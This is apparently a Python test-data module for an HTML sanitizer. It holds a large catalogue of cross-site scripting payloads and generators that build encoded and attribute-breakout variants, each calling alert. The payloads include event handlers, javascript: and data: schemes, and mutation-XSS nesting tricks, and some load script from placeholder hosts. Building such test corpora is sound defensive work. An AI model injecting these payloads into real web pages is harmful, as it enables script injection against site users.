"""More than 200 ways to smuggle a script into text. Each calls `alert`; none may run after cleaning."""
# ruff: noqa: E501  (one attack, one line)

EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpageshow",
]
TAGS = [
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "iframe src=x",
    "p",
]
SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)",
    "javascript&#58;alert(1)", "jav&Tab;ascript:alert(1)", "jav&NewLine;ascript:alert(1)", "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:alert(1)", "livescript:alert(1)", "view-source:javascript:alert(1)",
    "blob:null/alert(1)", "filesystem:javascript:alert(1)", "feed:javascript:alert(1)", "jar:javascript:alert(1)!/",
    "\u2028javascript:alert(1)", "javascript\u200b:alert(1)", "\x00javascript:alert(1)", "ｊavascript:alert(1)",
]  # fmt: skip
CARRIERS = ['<a href="{}">x</a>', "<form action='{}'><button>x</button></form>", '<a xlink:href="{}">x</a>']

HAND_MADE = [
    # Plain and malformed scripts.
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script>alert(1)", "<script src=//x.nl>",
    "<script src=data:,alert(1)></script>", "<script type=module>alert(1)</script>", "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</p></div></body><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>",
    "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\x00script>alert(1)</script>", "<scr\x00ipt>alert(1)</script>", "＜script＞alert(1)＜/script＞",
    # Elements that run, load or replace something.
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<iframe src=javascript:parent.alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<applet code=x onerror=alert(1)></applet>", "<base href='javascript:alert(1)//'><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;javascript:alert(1)'>", "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "<link rel=stylesheet href='data:text/css,*{}' onload=alert(1)>", "<link rel=modulepreload href=x onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x</button></form>", "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=submit>", "<input type=image src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>", "<frameset onload=alert(1)>", "<frame src=javascript:alert(1)>", "<bgsound src=javascript:alert(1)>",
    "<portal src=javascript:alert(1)>", "<fencedframe src=javascript:alert(1)>", "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>y</div>", "<div popover onbeforetoggle=alert(1) id=q></div>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert(1)>x</p>", "<style>@import 'javascript:alert(1)'</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>", "<p style=\"width:expression(alert(1))\">x</p>", "<p style='-moz-binding:url(x)'>x</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>", "<select autofocus onfocus=alert(1)><option>x</select>",
    "<a href=# onclick=alert(1)>x</a>", "<a href='https://a.nl' onmouseover=alert(1)>x</a>", "<a href='https://a.nl\" onclick=\"alert(1)'>x</a>",
    "<a href=\"https://a.nl\" \" onclick=alert(1)>x</a>", "<a href=`javascript:alert(1)`>x</a>", "<a ping=https://x.nl href=https://a.nl>x</a>",
    "<a id=alert href=https://a.nl>x</a>", "<img name=body src=x onerror=alert(1)>", "<p contenteditable autofocus onfocus=alert(1)>x</p>",
    "<p tabindex=1 onfocus=alert(1) autofocus>x</p>", "<p accesskey=x onclick=alert(1)>x</p>", "<p slot=x is=y onfocus=alert(1)>x</p>",
    "<img src=x:x onerror=alert(1)//", "<img src=x onerror=alert(1)", "<img/src=x/onerror=alert(1)>", "<img src=x onerror\x0c=alert(1)>",
    "<img src='x`' onerror=alert(1)>", "<img srcset='x 1x, y 2x' onerror=alert(1)>", "<picture><source srcset=x><img onerror=alert(1) src=x></picture>",
    "<image src=x onerror=alert(1)>", "<video><source onerror=alert(1) src=x></video>", "<video poster=javascript:alert(1)></video>",
    "<track onerror=alert(1)>", "<body background=javascript:alert(1)>", "<table background=javascript:alert(1)><td>x</table>",
    # Foreign content and mutation: harmless in one reading, alive in the next.
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) /></svg>", "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>", "<svg><set attributeName=onload to=alert(1) />",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>", "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><p><style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><desc><b><img src=x onerror=alert(1)></b></desc></svg>", "<svg><title><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<math href=javascript:alert(1)>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><math><table id=\"</table>\"><img src=x onerror=alert(1)\">",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><mtext><mglyph><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">", "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<plaintext><img src=x onerror=alert(1)>", "<listing><img src=x onerror=alert(1)></listing>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>", "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<template><img src=x onerror=alert(1)></template>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>", "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><tr><td><svg><desc><td><img src=x onerror=alert(1)>", "<p><table><img src=x onerror=alert(1)></table></p>",
    "<a><svg><a><style><a title=\"</style><img src=x onerror=alert(1)>\">", "<b><p title='<!--'></b><img src=x onerror=alert(1)>-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<!--!><img src=x onerror=alert(1)>-->", "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>", "<?xml version=1.0?><img src=x onerror=alert(1)>", "<!DOCTYPE x [<!ENTITY y 'z'>]><img src=x onerror=alert(1)>",
    "<?php echo '<img src=x onerror=alert(1)>' ?>", "</br onmouseover=alert(1)>", "<br onmouseover=alert(1)>", "<li onclick=alert(1)>x", "<blockquote cite=javascript:alert(1) onclick=alert(1)>x",
    "<ol start=\"1\" onclick=alert(1)><li>x</ol>", "<strong onclick=alert(1)>x</strong>", "<em style=x:y onpointerenter=alert(1)>x</em>",
    "<x onclick=alert(1)>x</x>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "<custom-element onconnected=alert(1)>",
    "<a href=https://a.nl/<script>alert(1)</script>>x</a>", "<a href='https://a.nl/?q=\"><script>alert(1)</script>'>x</a>", "<a href='mailto:a@b.nl?body=<script>alert(1)</script>'>x</a>",
    "https://a.nl/\"onmouseover=alert(1)", "https://a.nl/'><img src=x onerror=alert(1)>", "https://a.nl/&quot;onclick=alert(1)",
]  # fmt: skip

#: Where a template may print a value, as the way out of it; what does harm there; how it can be disguised.
WAYS_OUT = ["{}", '">{}', "'>{}", "-->{}", "</textarea>{}", "</title>{}", "</option></select>{}", "</script>{}"]
HARM = ["<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<script>alert(1)</script>", "<img src=//h.nl/alert>"]
ATTRIBUTES = ['" {} x="', "' {} x='", "` {} x=`", " {} "]
HANDLERS = [
    "onfocus=alert(1) autofocus",
    "onmouseover=alert(1)",
    "onpointerenter=alert(1)",
    "style=x:url(//h.nl/alert)",
]
DISGUISES = [
    str,
    lambda text: "".join(f"&#{ord(sign)};" if sign in "<>\"'" else sign for sign in text),
    lambda text: "".join(f"&#x{ord(sign):x};" if sign in "<>\"'" else sign for sign in text),
    lambda text: "".join(f"%{ord(sign):02x}" if sign in "<>\"' " else sign for sign in text),
    lambda text: "".join(f"\\u{ord(sign):04x}" if sign in "<>\"'" else sign for sign in text),
    lambda text: text.replace("<", "<\u200b"),
]
BREAKOUTS = [
    disguise(out.format(harm))
    for disguise in DISGUISES
    for outs, harms in ((WAYS_OUT, HARM), (ATTRIBUTES, HANDLERS))
    for out in outs
    for harm in harms
]

PAYLOADS = list(
    dict.fromkeys(
        HAND_MADE
        + [f"<{tag} {event}=alert(1)>x" for tag in TAGS for event in EVENTS]
        + [carrier.format(scheme) for carrier in CARRIERS for scheme in SCHEMES]
    )
)
